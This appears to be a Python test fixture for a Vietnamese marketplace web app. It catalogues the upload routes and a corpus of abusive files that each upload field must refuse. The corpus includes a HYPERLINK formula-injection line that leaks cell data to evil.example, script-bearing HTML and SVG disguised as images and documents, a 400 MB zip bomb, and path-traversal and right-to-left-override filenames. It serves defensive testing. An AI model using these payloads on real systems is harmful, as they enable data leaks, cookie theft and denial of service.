"""The upload table the upload sweep reads: every route with a file field, who may post there, the
other fields a valid post needs, the field's size limit, a genuinely valid file for it, and the
corpus of abusive files every upload field must refuse.

A new form with a FileField must get an entry here (`test_every_upload_field_is_in_the_table`)."""

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

from openpyxl import Workbook
from PIL import Image
from sqlalchemy import select

from tests import factories
from tests.catalogue.import_fixtures import tax_code
from tests.factories import pdf_bytes

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def jpeg() -> bytes:
    image = Image.new("RGB", (640, 480), (180, 120, 60))
    image.paste((30, 90, 60), (0, 0, 320, 480))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """An .xlsx-shaped zip (it has [Content_Types].xml) whose sheet inflates to 400 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b"0" * (1024 * 1024)
            for _ in range(400):
                sheet.write(block)
    return buffer.getvalue()


def csv_file(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_file(rows: list[list[str]]) -> bytes:
    workbook = Workbook()
    for values in rows:
        workbook.active.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Abuse:
    content: Callable[[], bytes]
    filename: str


_ZIP_BOMB: list[bytes] = []


def _zip_bomb() -> bytes:
    if not _ZIP_BOMB:  # a few seconds to build: once per run
        _ZIP_BOMB.append(zip_bomb())
    return _ZIP_BOMB[0]


# No field accepts any of these: refused with a clear 4xx and a translated message, nothing kept.
ABUSE = {
    # the photo corpus of tests/catalogue/test_uploads.py
    "HTML saved as .jpg": Abuse(lambda: b"<!doctype html><script>alert(document.cookie)</script>", "anh.jpg"),
    "text with a fake extension": Abuse(lambda: b"just some text, not a photo at all" * 20, "photo.png"),
    "SVG": Abuse(
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>', "logo.svg"
    ),
    "SVG renamed as .jpg": Abuse(
        lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>', "logo.jpg"
    ),
    "decompression bomb": Abuse(factories.png_bomb, "bomb.png"),
    "GIF": Abuse(lambda: b"GIF89a" + b"\x00" * 200, "anim.gif"),
    "truncated JPEG": Abuse(lambda: jpeg()[:600], "cut.jpg"),
    # documents and lists
    "binary garbage named .csv": Abuse(lambda: bytes(range(256)) * 64, "sao-ke.csv"),
    "HTML named .csv": Abuse(
        lambda: b"<!doctype html><html><body><script>alert(1)</script></body></html>", "danh-sach.csv"
    ),
    "HTML named .pdf": Abuse(
        lambda: b"<!doctype html><html><body><script>alert(1)</script></body></html>", "giay-phep.pdf"
    ),
    "a list with NUL characters": Abuse(
        lambda: "Ngày,Số tiền,Nội dung\n12/03/2026,1.000.000,CK\x00 gian\n".encode(), "sao-ke.csv"
    ),
    "zip bomb named .xlsx": Abuse(_zip_bomb, "danh-sach.xlsx"),
    "empty file": Abuse(lambda: b"", "rong.csv"),
}
# A genuinely valid file under a name meant to escape DATA_DIR or to confuse: accepted, and stored
# under a name the server chose. `{ext}` is the valid file's own extension.
HOSTILE_NAMES = {
    "path traversal": "../../evil.{ext}",
    "absolute Windows path": "C:\\Windows\\System32\\evil.{ext}",
    "NUL in the name": "evil\x00.{ext}",
    "unicode and a right-to-left override": "Bảng kê ‮gpj.exe.{ext}",
}


# --- the table -------------------------------------------------------------------------------


@dataclass(frozen=True)
class UploadRoute:
    endpoint: str
    field: str  # the file field's name in the form
    forms: tuple[str, ...]  # "module.Class" of the form classes whose file field this route covers
    actor: str  # one of access_rules.ACTORS allowed to post here
    valid: Callable[[], tuple[bytes, str]]  # a file the field genuinely accepts: (content, extension)
    limit: Callable[[], int]  # the field's size limit in bytes (called in the app context)
    args: Callable | None = None  # world -> URL values; by default those of the endpoint's access rule
    data: Callable = lambda w: {}  # world -> the other form fields a valid post needs
    # A spreadsheet field: a valid file holding `text` in a free-text cell, as CSV or XLSX.
    spreadsheets: Callable[[str], list[tuple[bytes, str]]] | None = None
    # Where the upload is read after the request (an import job): (refused, translated reason) of
    # the newest job, and the tables a refusal made there may still add its record to.
    later: Callable[[], tuple[bool, str]] | None = None
    record_tables: frozenset = field(default_factory=frozenset)
    # The URLs of the spreadsheets the site hands back after an accepted upload (called in its transaction).
    exports: Callable[[], list[str]] | None = None


def _photo_limit() -> int:
    from marketplace.catalogue.photos import max_photo_bytes

    return max_photo_bytes()


def _import_limit() -> int:
    from marketplace.catalogue.imports.forms import max_upload_bytes

    return max_upload_bytes()


def _import_rows(text: str) -> list[list[str]]:
    header = ["Tên cơ sở", "Mã số thuế", "Tỉnh/Thành phố", "Mã SP", "Tên sản phẩm", "Nhóm sản phẩm", "Mô tả"]
    formula = text.startswith("=")
    return [
        header,
        [
            text if formula else "HTX Gốm Bát Tràng (tải lên)",
            tax_code(901),
            "Hà Nội",
            "UP-01",
            text if formula else "Bình gốm men lam",
            "1",
            text,
        ],
    ]


def _import_valid() -> tuple[bytes, str]:
    return csv_file(_import_rows("Vẽ tay.")), "csv"


def _import_job_outcome() -> tuple[bool, str]:
    from marketplace.catalogue.imports.models import ImportJob
    from marketplace.extensions import db

    job = db.session.scalar(select(ImportJob).order_by(ImportJob.id.desc()).limit(1))
    return job.status == "failed", job.error or ""


def _import_report() -> list[str]:
    from marketplace.catalogue.imports.models import ImportJob
    from marketplace.extensions import db

    job_id = db.session.scalar(select(ImportJob.id).order_by(ImportJob.id.desc()).limit(1))
    return [f"/manage/imports/{job_id}/report.csv"]


def _plan_valid() -> tuple[bytes, str]:
    return b"code,type,x,y,w,h\nU01,standard,30,12,3,3\n", "csv"


def _statement_rows(text: str) -> list[list[str]]:
    return [["Ngày", "Số tiền", "Nội dung"], ["12/03/2026", "1.000.000", text]]


def _statement_valid() -> tuple[bytes, str]:
    return csv_file(_statement_rows("CK tien gian hang")), "csv"


def _attachment_limit() -> int:
    from marketplace.inquiries.attachments import MAX_PDF_BYTES

    return MAX_PDF_BYTES


def _dossier_limit() -> int:
    from marketplace.awards.documents import MAX_DOCUMENT_BYTES

    return MAX_DOCUMENT_BYTES


UPLOAD_ROUTES = [
    UploadRoute(
        "catalogue.product_photos",
        "photos",
        ("marketplace.catalogue.forms.PhotoUploadForm",),
        "producer",
        lambda: (jpeg(), "jpg"),
        _photo_limit,
    ),
    UploadRoute(
        "producers.photos",
        "photos",
        ("marketplace.catalogue.forms.PhotoUploadForm",),
        "producer",
        lambda: (jpeg(), "jpg"),
        _photo_limit,
    ),
    # The job reads the list after the request: a list it cannot use ends the job failed with the
    # reason (the job's row is its record); the form itself refuses what is not a CSV or XLSX.
    UploadRoute(
        "catalogue.import_new",
        "file",
        ("marketplace.catalogue.imports.forms.ImportForm",),
        "organiser",
        _import_valid,
        _import_limit,
        spreadsheets=lambda text: [(csv_file(_import_rows(text)), "csv"), (xlsx_file(_import_rows(text)), "xlsx")],
        later=_import_job_outcome,
        record_tables=frozenset({"import_jobs"}),
        exports=_import_report,
    ),
    UploadRoute(
        "fairs.hall_import",
        "plan",
        ("marketplace.fairs.forms.PlanImportForm",),
        "organiser",
        _plan_valid,
        lambda: 1024 * 1024,
        spreadsheets=lambda text: [
            (csv_file([["code", "type", "x", "y", "w", "h"], [text, "standard", "30", "12", "3", "3"]]), "csv")
        ],
    ),
    UploadRoute(
        "payments.statement_upload",
        "statement",
        ("marketplace.payments.forms.StatementForm",),
        "organiser",
        _statement_valid,
        lambda: 2 * 1024 * 1024,
        spreadsheets=lambda text: [(csv_file(_statement_rows(text)), "csv")],
    ),
    UploadRoute(
        "inquiries.post_message",
        "attachment",
        ("marketplace.inquiries.forms.MessageForm",),
        "buyer",
        lambda: (pdf_bytes(), "pdf"),
        _attachment_limit,
        data=lambda w: {"body": "Xin gửi bản vẽ mẫu."},
    ),
    UploadRoute(
        "awards.dossier_upload",
        "file",
        ("marketplace.awards.forms.DocumentForm",),
        "producer",
        lambda: (pdf_bytes(), "pdf"),
        _dossier_limit,
        args=lambda w: {"nomination_id": w.upload_nomination.id},
        data=lambda w: {"kind": "registration"},
    ),
]
